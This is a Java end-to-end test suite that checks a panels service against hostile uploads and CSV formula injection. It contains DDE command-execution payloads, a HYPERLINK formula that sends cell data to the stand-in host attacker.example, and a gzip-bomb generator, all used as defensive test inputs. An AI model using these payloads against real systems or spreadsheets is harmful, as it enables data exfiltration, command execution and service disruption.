package io.panels.e2e;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.restassured.http.ContentType;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.zip.GZIPOutputStream;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Hostile files in both directions, through the gateway (and directly at data-service for uploads).
 *
 * <p>Uploads: a body declaring a size above the limit is a 413 before a byte of it is read, a
 * problem+json one where the gateway's own limit applies (a 20 MB row); above the HTTP layer's limit ({@code quarkus.http.limits.max-body-size})
 * Vert.x answers a bare 413 itself, which is printed as a finding. A gzip "bomb" (3 GB of zeros in 3 MB, sent with {@code Content-Encoding: gzip}) is
 * never inflated into rows; a 5 MB single field does not break the importer. None of them answers
 * a 5xx, none writes a row, and data-service stays ready.
 *
 * <p>Exports: cells a spreadsheet would run as formulas ({@code = + - @}, tab, carriage return at the
 * start, including the classic DDE payloads) come out of a CSV export with a leading {@code '}; numbers
 * (a negative one too) stay numbers.
 */
@ExtendWith(Suite.class)
class UploadAndExportInjectionTest {

    private static final List<String> FORMULAS = List.of("=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://attacker.example/?\"&A1)", "@cmd|'/c notepad'!_xlbgnm.A1",
            "-2+3+cmd|' /C calc'!A0");

    private final List<String> failures = new ArrayList<>();
    private final List<String> checks = new ArrayList<>();
    /** What is wrong but not what this suite promises: printed for the owners (docs/reliability.md). */
    private final List<String> findings = new ArrayList<>();

    @Test
    void hostileUploadsWriteNothingAndExportedFormulasAreDefused() throws Exception {
        URI gateway = Suite.gateway("auth-service", "panel-service", "data-service", "export-service");
        URI data = Suite.url("data-service");
        StaffedTenant tenant = StaffedTenant.create(gateway);
        String editor = tenant.token("editor");
        String panelId = call(gateway, tenant.token("owner")).body(Map.of("name", "Hostile files", "columns", List.of(
                        Map.of("name", "Name", "type", "text"), Map.of("name", "Qty", "type", "number"))))
                .post("/api/v1/panels").then().statusCode(201).extract().path("id");
        List<Map<String, Object>> rows = new ArrayList<>();
        for (int i = 0; i < FORMULAS.size(); i++) {
            rows.add(Map.of("values", Map.of("name", FORMULAS.get(i), "qty", -i - 1)));
        }
        Awaitility.await("the panel's table").atMost(Duration.ofSeconds(60)).until(() -> call(gateway, editor)
                .body(Map.of("rows", rows)).post("/api/v1/panels/" + panelId + "/rows/batch-create").statusCode() == 201);
        String imports = "/api/v1/panels/" + panelId + "/imports";

        // Declared sizes: refused before a byte is read. The gateway's own limit answers problem+json;
        // above the HTTP layer's limit Vert.x answers a bare 413 itself (a finding, printed).
        // data-service checks max-file-size while it reads, so a declared size between its limit and
        // the HTTP layer's is not refused up front; that case is its module test's (a real 17 MB body).
        String rowsPath = "/api/v1/panels/" + panelId + "/rows";
        String head = declaredUpload(gateway, rowsPath, "application/json", editor, 20L * 1024 * 1024);
        check("gateway: a 20 MB row declared is 413 problem+json (panels.gateway.max-body-size)", isProblem413(head), head);
        for (URI base : List.of(gateway, data)) {
            String via = base.equals(gateway) ? "gateway" : "direct";
            for (long size : base.equals(gateway) ? List.of(2050L * 1024 * 1024, 3_000_000_000L) : List.of(3_000_000_000L)) {
                head = declaredUpload(base, imports, "text/csv", editor, size);
                check(via + ": a " + size / 1024 / 1024 + " MB import declared is 413", head.startsWith("HTTP/1.1 413"), head);
                if (head.startsWith("HTTP/1.1 413") && !isProblem413(head)) {
                    findings.add(via + ": a " + size / 1024 / 1024 + " MB import declared is a bare 413 without problem+json");
                }
            }
            Response bomb = given().baseUri(base.toString()).auth().oauth2(editor).contentType("text/csv")
                    .header("Content-Encoding", "gzip").body(gzipBomb()).post(imports);
            check(via + ": a gzip bomb is not a 5xx (" + bomb.statusCode() + ")", bomb.statusCode() < 500, bomb.asString());
            awaitJobWroteNothing(gateway, editor, panelId, via + " gzip bomb", bomb);

            byte[] wide = ("Name,Qty\n\"" + "x".repeat(5 * 1024 * 1024) + "\",1\n").getBytes(StandardCharsets.UTF_8);
            Response field = given().baseUri(base.toString()).auth().oauth2(editor).contentType("text/csv").body(wide).post(imports);
            check(via + ": a 5 MB field is not a 5xx (" + field.statusCode() + ")", field.statusCode() < 500, field.asString());
            awaitJobWroteNothing(gateway, editor, panelId, via + " 5 MB field", field);
        }
        int count = call(gateway, editor).body(Map.of("count", "exact")).post("/api/v1/panels/" + panelId + "/query")
                .then().statusCode(200).extract().path("count.value");
        check("no hostile upload wrote a row (" + count + " rows)", count == FORMULAS.size(), null);
        check("data-service is ready after them", given().baseUri(data.toString()).get("/q/health/ready").statusCode() == 200, null);

        // The formulas, exported to CSV and downloaded without a token (the signed link).
        Response job = Awaitility.await("export-service's copy of the panel").atMost(Duration.ofSeconds(60))
                .until(() -> call(gateway, editor).body(Map.of("panelId", panelId, "format", "csv")).post("/api/v1/exports"),
                        reply -> reply.statusCode() == 202);
        Response done = Awaitility.await("the export").atMost(Duration.ofSeconds(90))
                .until(() -> call(gateway, editor).get("/api/v1/exports/" + job.path("id")),
                        reply -> List.of("completed", "failed", "cancelled").contains(reply.<String>path("status")));
        String csv = given().baseUri(gateway.toString()).urlEncodingEnabled(false).get(done.<String>path("downloadUrl"))
                .then().statusCode(200).extract().asString();
        List<String> cells = csvCells(csv);
        for (String formula : FORMULAS) {
            boolean defused = cells.contains("'" + formula);
            boolean raw = cells.contains(formula);
            check("exported " + printable(formula) + " starts with '", defused && !raw, printable(csv));
        }
        for (int i = 1; i <= FORMULAS.size(); i++) {
            check("the number -" + i + " stays a number", cells.contains("-" + i) && !cells.contains("'-" + i), null);
        }
        System.out.println("\nHostile uploads and exports: " + checks.size() + " checks, " + failures.size() + " failed\n"
                + String.join("\n", checks) + (findings.isEmpty() ? "" : "\nFINDINGS\n" + String.join("\n", findings)));
        assertTrue(failures.isEmpty(), String.join("\n", failures));
    }

    /** Waits for the job an accepted upload made to end, and checks it imported nothing. */
    private void awaitJobWroteNothing(URI api, String token, String panelId, String what, Response accepted) {
        if (accepted.statusCode() != 202) {
            String type = accepted.getContentType();
            check(what + ": the refusal is problem+json", type != null && type.startsWith("application/problem+json"), accepted.asString());
            return;
        }
        String id = accepted.path("id");
        Response job = Awaitility.await(what + " job").atMost(Duration.ofSeconds(120)).until(
                () -> call(api, token).get("/api/v1/panels/" + panelId + "/imports/" + id),
                reply -> List.of("completed", "failed").contains(reply.<String>path("status")));
        Integer imported = job.path("rowsImported");
        check(what + ": the job ended (" + job.path("status") + ") and imported nothing", imported != null && imported == 0, job.asString());
    }

    /** Sends only the headers (and a few bytes) of an upload declaring {@code length}; answers the raw reply head. */
    private static boolean isProblem413(String reply) {
        return reply.startsWith("HTTP/1.1 413") && reply.toLowerCase().contains("application/problem+json");
    }

    private static String declaredUpload(URI base, String path, String contentType, String token, long length) throws IOException {
        try (Socket socket = new Socket(base.getHost(), base.getPort())) {
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            out.write(("POST " + path + " HTTP/1.1\r\nHost: " + base.getHost() + ":" + base.getPort() + "\r\n"
                    + "Authorization: Bearer " + token + "\r\nContent-Type: " + contentType + "\r\nContent-Length: " + length + "\r\n"
                    + "Idempotency-Key: " + UUID.randomUUID() + "\r\n\r\nName,Qty\nhuge,1\n").getBytes(StandardCharsets.US_ASCII));
            out.flush();
            InputStream in = socket.getInputStream();
            ByteArrayOutputStream reply = new ByteArrayOutputStream();
            byte[] buffer = new byte[8192];
            long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
            while (System.nanoTime() < deadline && reply.size() < 4096) {
                int read;
                try {
                    read = in.read(buffer);
                } catch (IOException e) {
                    break;
                }
                if (read < 0) {
                    break;
                }
                reply.write(buffer, 0, read);
                if (reply.toString(StandardCharsets.UTF_8).contains("\r\n\r\n") && reply.toString(StandardCharsets.UTF_8).contains("}")) {
                    break;
                }
            }
            return reply.toString(StandardCharsets.UTF_8);
        }
    }

    /** 3 GB of zeros as one hundred gzip members of 30 MB each: about 3 MB on the wire. */
    private static byte[] gzipBomb() throws IOException {
        ByteArrayOutputStream member = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(member)) {
            byte[] zeros = new byte[1024 * 1024];
            for (int i = 0; i < 30; i++) {
                gzip.write(zeros);
            }
        }
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        for (int i = 0; i < 100; i++) {
            member.writeTo(bomb);
        }
        return bomb.toByteArray();
    }

    /** The cells of an RFC 4180 document. */
    private static List<String> csvCells(String csv) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n') {
                cells.add(cell.toString());
                cell.setLength(0);
            } else if (c != '\r') {
                cell.append(c);
            }
        }
        if (!cell.isEmpty()) {
            cells.add(cell.toString());
        }
        return cells;
    }

    private static String printable(String text) {
        return text.replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n");
    }

    private void check(String what, boolean passed, String detail) {
        checks.add((passed ? "ok     " : "FAILED ") + what);
        if (!passed) {
            failures.add(what + (detail == null ? "" : ": " + (detail.length() > 500 ? detail.substring(0, 500) + "..." : detail)));
        }
    }

    private static RequestSpecification call(URI api, String token) {
        return given().baseUri(api.toString()).auth().oauth2(token).contentType(ContentType.JSON)
                .header("Idempotency-Key", UUID.randomUUID().toString());
    }
}
